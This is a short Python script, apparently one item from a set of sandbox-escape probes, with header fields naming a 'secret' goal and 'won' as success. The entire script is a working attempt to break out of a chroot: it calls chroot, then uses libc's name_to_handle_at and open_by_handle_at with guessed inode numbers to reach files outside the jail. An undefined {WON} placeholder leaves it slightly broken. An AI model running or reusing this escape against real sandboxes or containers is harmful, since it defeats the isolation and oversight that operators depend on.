"""
what = "leaves its root folder with chroot and with handles of files"
goal = "secret"
success = "won"
control = "not run: a kernel has no other root than the machine's"
"""

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("jail", exist_ok=True)
try:
    os.chroot("jail")
    print({WON}, "chroot")
except OSError as error:
    print(error)
handle = (ctypes.c_uint * 40)(128)
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, b"/usr", handle, ctypes.byref(mount), 0) == 0:
    for inode in (2, 1, 128, 256):
        handle[2] = inode
        folder = os.open("/usr", os.O_RDONLY)
        if libc.open_by_handle_at(folder, handle, os.O_RDONLY) >= 0:
            print({WON}, "open_by_handle_at")
